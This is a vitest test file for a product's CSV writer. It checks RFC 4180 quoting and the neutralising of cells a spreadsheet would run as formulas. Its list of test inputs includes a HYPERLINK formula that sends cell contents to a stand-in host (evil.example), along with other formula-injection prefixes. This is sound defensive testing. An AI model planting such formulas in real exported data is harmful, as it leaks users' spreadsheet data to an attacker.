/** Every CSV the product writes: RFC 4180 quoting, and no cell a spreadsheet would run as a formula (OWASP). */
import { describe, expect, it } from 'vitest';
import { csvField, csvRecord } from '../projections/csv.ts';

describe('csv', () => {
  it('quotes fields holding a comma, a quote or a line break, and doubles the quotes (RFC 4180)', () => {
    expect(csvRecord(['a', 'b,c', 'say "hi"', 'two\nlines', 7, null, undefined])).toBe('a,"b,c","say ""hi""","two\nlines",7,,\r\n');
  });

  it.each(['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1-555-0100', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\0=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'])(
    'a cell starting a formula is neutralised with a leading quote and quoted: %j',
    (value) => {
      const field = csvField(value);
      expect(field).toBe(`"'${value.replaceAll('"', '""')}"`);
      // What a spreadsheet sees once it unquotes the field: text that starts with the quote mark.
      expect(field.slice(1, -1).replaceAll('""', '"').startsWith("'")).toBe(true);
    },
  );

  it('leaves ordinary values, numbers and ISO dates alone', () => {
    expect(csvRecord(['SN-0001', 'ACME Robotics', '2026-03-02T08:15:41.000Z', -5, 'a=b', "O'Brien"])).toBe("SN-0001,ACME Robotics,2026-03-02T08:15:41.000Z,-5,a=b,O'Brien\r\n");
  });
});
